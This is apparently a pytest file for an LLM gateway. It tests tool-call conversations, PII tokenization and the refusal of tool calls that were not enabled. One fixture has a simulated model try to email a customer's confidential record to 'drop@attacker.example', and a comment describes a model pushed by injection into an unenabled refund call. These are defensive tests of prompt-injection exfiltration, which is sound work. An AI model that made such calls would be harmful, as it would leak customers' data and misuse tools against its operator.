"""Multi-turn tool conversations through the gateway, and the tools a request
enables (issue 15, items 2 and 4; CHECKLIST M4).

* The shapes of OpenAI's chat completions are accepted: an assistant turn that
  proposed calls (``tool_calls``, content null) and the ``tool`` results that
  answer them by ``tool_call_id``, sent back as the official client sends
  them; a tool result is tainted for egress. Malformed shapes are refused
  (422 problem+json) before any provider is asked or any budget spent.
* A proposed call of a tool the request declared but did not enable
  (``tool_choice``) is never signed: refused, audited, reported.

On real parts: the real gateway over HTTP with the official ``openai`` client,
the provider double as upstream, real signatures, the real PostgreSQL.
"""

from __future__ import annotations

import json
from typing import Any
from uuid import uuid4

import pytest

import tests.test_egress as egress_tests
import tests.test_gateway as gateway_tests
from bastion.billing.budgets import BudgetService
from tests.conftest import DbHandles
from tests.test_gateway import (
    CALCULATE_TOOL,
    REFUND_TOOL,
    Gateway,
    _assert_nothing_spent,
    _budget,
    _client,
    _dpop_http,
)
from tests.test_tool_arguments import _gateway_events

gateway = gateway_tests.gateway
budgets = gateway_tests.budgets
_upstream_ok = gateway_tests._upstream_ok
policies = egress_tests.policies

pytestmark = pytest.mark.anyio

SEND_EMAIL = egress_tests.SEND_EMAIL
# What a tool returned: a customer's confidential record, which a later call
# must not carry to an address the tenant did not allow.
TOOL_RESULT = "Customer record: Ingrid Solberg, contract 88-417, renewal at 41 000 EUR in June."


async def _first_turn(gw: Gateway, tools: list[dict[str, Any]]) -> tuple[Any, list[Any]]:
    """The model proposes ``calculate``; the signed answer and the conversation so far."""
    gw.double.mode = "tool"
    gw.double.proposal = ("call_sum", "calculate", json.dumps({"expression": "2 + 2"}))
    messages: list[Any] = [{"role": "user", "content": f"add 2 and 2 {uuid4()}"}]
    answer = await _client(gw).chat.completions.create(
        model="upstream", messages=messages, tools=tools,  # type: ignore[arg-type]
    )  # fmt: skip
    message = answer.choices[0].message
    assert message.tool_calls and message.tool_calls[0].id == "call_sum"
    return message, messages


async def test_a_tool_result_turn_is_accepted_and_sent_on_in_openai_shape(
    gateway: Gateway, budgets: BudgetService
) -> None:
    await _budget(budgets, gateway, calls=10)
    message, messages = await _first_turn(gateway, [CALCULATE_TOOL])
    # The client sends the assistant turn back as OpenAI shapes it (content null,
    # the calls with the gateway's own members on them), then the tool's result.
    turn = message.model_dump()
    turn["content"] = None
    assert turn["tool_calls"][0]["bastion_signature"]
    messages += [turn, {"role": "tool", "tool_call_id": "call_sum", "content": "4"}]
    gateway.double.mode = "ok"
    answer = await _client(gateway).chat.completions.create(
        model="upstream", messages=messages, tools=[CALCULATE_TOOL],  # type: ignore[list-item]
    )  # fmt: skip
    assert answer.choices[0].message.content == "The refund was issued on the fifth of March."
    sent = gateway.double.last_body
    assert sent is not None
    assistant, result = sent["messages"][1], sent["messages"][2]
    assert assistant["role"] == "assistant" and assistant["content"] is None
    assert assistant["tool_calls"] == [
        {
            "id": "call_sum",
            "type": "function",
            "function": {"name": "calculate", "arguments": '{"expression": "2 + 2"}'},
        }
    ]  # the gateway's own members (index, signature) are not sent upstream
    assert result == {"role": "tool", "content": "4", "tool_call_id": "call_sum"}


async def test_a_tool_result_in_a_conversation_is_tainted_for_egress(
    gateway: Gateway, budgets: BudgetService, database: DbHandles, policies: None
) -> None:
    await _budget(budgets, gateway, calls=10)
    message, messages = await _first_turn(gateway, [CALCULATE_TOOL, SEND_EMAIL])
    messages += [message, {"role": "tool", "tool_call_id": "call_sum", "content": TOOL_RESULT}]
    call_id = f"call_{uuid4().hex[:12]}"
    gateway.double.proposal = (
        call_id,
        "send_email",
        json.dumps({"to": "drop@attacker.example", "body": f"as asked: {TOOL_RESULT[17:]}"}),
    )
    answer = await _client(gateway).chat.completions.create(
        model="upstream", messages=messages, tools=[CALCULATE_TOOL, SEND_EMAIL],  # type: ignore[list-item]
    )  # fmt: skip
    choice = answer.choices[0]
    assert not choice.message.tool_calls and choice.finish_reason == "stop"
    refused = choice.message.model_dump().get("bastion_refused")
    assert refused == [{"id": call_id, "reason": "egress"}]
    events = await _gateway_events(database, call_id)
    assert [(a, d["reason"], d["carried"]) for a, d in events] == [
        ("tool.refused", "egress", ["tainted"])
    ]
    assert "Solberg" not in json.dumps(events)


async def test_personal_data_in_an_earlier_call_s_arguments_is_tokenized_before_the_provider(
    gateway: Gateway, budgets: BudgetService
) -> None:
    # The arguments of a call relayed back go to the provider like any message
    # text: through the PII stage first.
    await _budget(budgets, gateway, calls=10)
    address = "maria.lindqvist@customer.example"
    arguments = json.dumps({"to": address, "body": "your refund is on its way"})
    function = {"name": "send_email", "arguments": arguments}
    call = {"id": "call_mail", "type": "function", "function": function}
    messages: Any = [
        {"role": "user", "content": f"tell the customer {uuid4()}"},
        {"role": "assistant", "content": None, "tool_calls": [call]},
        {"role": "tool", "tool_call_id": "call_mail", "content": "sent"},
    ]
    await _client(gateway).chat.completions.create(model="upstream", messages=messages)
    sent = gateway.double.last_body
    assert sent is not None
    relayed = sent["messages"][1]["tool_calls"][0]["function"]["arguments"]
    assert address not in json.dumps(sent) and "maria" not in relayed.lower()
    assert json.loads(relayed)["body"] == "your refund is on its way"


# Shapes OpenAI's API refuses, each refused here before a provider is asked.
MALFORMED: dict[str, list[dict[str, Any]]] = {
    "tool result without tool_call_id": [
        {"role": "user", "content": "hi"},
        {"role": "tool", "content": "4"},
    ],
    "tool_calls on a user turn": [
        {
            "role": "user",
            "content": "hi",
            "tool_calls": [
                {"id": "c1", "type": "function", "function": {"name": "f", "arguments": "{}"}}
            ],
        }
    ],
    "assistant turn with neither content nor calls": [
        {"role": "user", "content": "hi"},
        {"role": "assistant", "content": None},
    ],
    "a call without its function": [
        {"role": "user", "content": "hi"},
        {"role": "assistant", "content": None, "tool_calls": [{"id": "c1", "type": "function"}]},
    ],
    "tool_call_id on a user turn": [{"role": "user", "content": "hi", "tool_call_id": "c1"}],
}


@pytest.mark.parametrize("shape", list(MALFORMED))
async def test_a_malformed_tool_turn_is_refused_before_any_provider_call(
    gateway: Gateway, budgets: BudgetService, shape: str
) -> None:
    await _budget(budgets, gateway, calls=10)
    before = gateway.double.calls
    async with _dpop_http(gateway) as http:
        response = await http.post(
            f"{gateway.url}/v1/chat/completions",
            json={"model": "upstream", "messages": MALFORMED[shape]},
        )
    assert response.status_code == 422, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    assert response.json()["type"].endswith("/validation-error")
    assert gateway.double.calls == before
    await _assert_nothing_spent(budgets, gateway)


# -- the tools a request enables (tool_choice) ---------------------------------------------------

NAMED_CALCULATE = {"type": "function", "function": {"name": "calculate"}}
CHOICES: dict[str, tuple[Any, list[str]]] = {
    # tool_choice, and the tools the model is then offered
    "none": ("none", []),
    "named function": (NAMED_CALCULATE, ["calculate"]),
    "allowed_tools": (
        {"type": "allowed_tools", "allowed_tools": {"mode": "auto", "tools": [NAMED_CALCULATE]}},
        ["calculate"],
    ),
}


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "streamed"])
@pytest.mark.parametrize("choice", list(CHOICES))
async def test_a_declared_tool_the_request_did_not_enable_is_never_signed(
    gateway: Gateway, budgets: BudgetService, database: DbHandles, choice: str, stream: bool
) -> None:
    # Both tools declared; tool_choice enables calculate at most. The model (talked
    # into it by an injection, say) proposes refund_invoice anyway.
    await _budget(budgets, gateway, calls=10)
    tool_choice, offered = CHOICES[choice]
    call_id = f"call_{uuid4().hex[:12]}"
    gateway.double.mode = "tool"
    gateway.double.proposal = (call_id, "refund_invoice", '{"invoice": "INV-1042", "amount": 49}')
    async with _dpop_http(gateway) as http:
        response = await http.post(
            f"{gateway.url}/v1/chat/completions",
            json={
                "model": "upstream",
                "messages": [{"role": "user", "content": f"what is 6 * 7? {uuid4()}"}],
                "tools": [REFUND_TOOL, CALCULATE_TOOL],
                "tool_choice": tool_choice,
                "stream": stream,
            },
        )
    assert response.status_code == 200, response.text
    sent = gateway.double.last_body
    assert sent is not None  # the model was asked: only the enabled tools were offered
    assert [t["function"]["name"] for t in sent.get("tools", [])] == offered
    assert "bastion_signature" not in response.text and "INV-1042" not in response.text
    if stream:
        events = gateway_tests._sse_events(response.text)
        deltas = [c["delta"] for event in events for c in event["choices"]]
        refused = [r for delta in deltas for r in delta.get("bastion_refused", [])]
        assert events[-1]["choices"][0]["finish_reason"] == "stop"
    else:
        message = response.json()["choices"][0]["message"]
        refused = message["bastion_refused"]
        assert message["tool_calls"] == []
    assert refused == [{"id": call_id, "reason": "not-enabled"}]
    events_ = await _gateway_events(database, call_id)
    assert [(a, d["reason"], d["tool"]) for a, d in events_] == [
        ("tool.refused", "not-enabled", "refund_invoice")
    ]


async def test_the_enabled_tool_is_still_signed(gateway: Gateway, budgets: BudgetService) -> None:
    """The control: a call of the tool tool_choice names goes through, signed."""
    await _budget(budgets, gateway, calls=10)
    gateway.double.mode = "tool"
    gateway.double.proposal = ("call_ok", "calculate", json.dumps({"expression": "6 * 7"}))
    tools: Any = [REFUND_TOOL, CALCULATE_TOOL]
    choice: Any = NAMED_CALCULATE
    answer = await _client(gateway).chat.completions.create(
        model="upstream",
        messages=[{"role": "user", "content": f"what is 6 * 7? {uuid4()}"}],
        tools=tools,
        tool_choice=choice,
    )
    calls = answer.choices[0].message.tool_calls or []
    assert [c.id for c in calls] == ["call_ok"]
    assert calls[0].model_dump()["bastion_signature"]


async def test_a_tool_choice_naming_an_undeclared_tool_is_refused(
    gateway: Gateway, budgets: BudgetService
) -> None:
    await _budget(budgets, gateway, calls=10)
    before = gateway.double.calls
    async with _dpop_http(gateway) as http:
        response = await http.post(
            f"{gateway.url}/v1/chat/completions",
            json={
                "model": "upstream",
                "messages": [{"role": "user", "content": "hi"}],
                "tools": [CALCULATE_TOOL],
                "tool_choice": {"type": "function", "function": {"name": "run_python"}},
            },
        )
    assert response.status_code == 422, response.text
    assert response.json()["type"].endswith("/validation-error")
    assert "run_python" not in response.text
    assert gateway.double.calls == before
    await _assert_nothing_spent(budgets, gateway)
